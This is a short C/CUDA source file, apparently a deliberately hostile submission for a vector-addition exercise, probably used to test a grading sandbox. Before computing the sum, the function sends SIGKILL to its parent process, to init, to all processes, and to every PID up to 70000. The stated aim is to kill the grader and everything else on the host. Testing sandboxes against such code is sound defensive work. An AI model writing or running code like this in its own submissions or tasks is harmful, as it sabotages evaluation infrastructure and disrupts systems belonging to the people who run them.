/* hostile: ends its parent, and everybody */
#include "exercise.h"

#include <signal.h>
#include <unistd.h>

cudaError_t vector_add_host(float *c, const float *a, const float *b, size_t n)
{
    kill(getppid(), SIGKILL);
    kill(1, SIGKILL);
    kill(-1, SIGKILL);
    kill(0, SIGKILL);
    for (int pid = 1; pid < 70000; pid++) {
        if (pid != getpid())
            kill(pid, SIGKILL);
    }
    for (size_t i = 0; i < n; i++) {
        c[i] = a[i] + b[i];
    }
    return cudaSuccess;
}
